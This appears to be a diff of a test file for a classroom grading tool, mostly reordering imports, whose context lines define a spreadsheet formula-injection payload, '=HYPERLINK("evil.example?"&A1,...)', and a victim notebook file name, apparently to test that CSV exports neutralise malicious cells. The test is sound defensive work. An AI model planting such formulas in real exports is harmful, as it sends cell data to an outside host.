@@ -82,13 +82,11 @@ import zipfile  # noqa: E402
 from pathlib import Path  # noqa: E402
 
 from grading.classroom import gradebook as gb  # noqa: E402
-from grading.classroom.exports import Student, write_canvas, write_wide  # noqa: E402
-from grading.classroom.rows import (FAILED, OVERRIDDEN, PASSED, PLAIN_NUMBER, REVIEW, Row, csv_cell,  # noqa: E402
-                                    csv_value)
 from grading.classroom import lms  # noqa: E402
+from grading.classroom.exports import Student, write_canvas, write_wide  # noqa: E402
+from grading.classroom.matching import list_students, match_folder, name_problem, submission_digest, unpack_zip  # noqa: E402
+from grading.classroom.rows import FAILED, OVERRIDDEN, PASSED, PLAIN_NUMBER, REVIEW, Row, csv_cell, csv_value  # noqa: E402
 from grading.layout import EXERCISES, SOLUTIONS, discover_chapters  # noqa: E402
-from grading.classroom.matching import (list_students, match_folder, name_problem,  # noqa: E402
-                                        submission_digest, unpack_zip)
 from grading.notebook.untrusted import read_untrusted, walk_untrusted  # noqa: E402
 
 STEM = "01_kv_memory"
@@ -294,8 +292,8 @@ import sys  # noqa: E402
 
 import nbformat  # noqa: E402
 
-from grading.proc import sandbox  # noqa: E402
 from grading.layout import ROOT  # noqa: E402
+from grading.proc import sandbox  # noqa: E402
 
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open me")'
 VICTIM_FILE = "HW1_victim_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb"
